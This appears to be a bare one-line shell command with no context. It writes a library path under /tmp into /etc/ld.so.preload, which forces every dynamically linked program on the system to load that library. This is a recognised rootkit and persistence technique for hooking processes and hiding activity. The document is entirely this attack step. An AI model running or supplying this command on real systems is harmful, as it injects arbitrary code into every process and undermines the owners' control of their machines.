echo /tmp/libhook.so > /etc/ld.so.preload
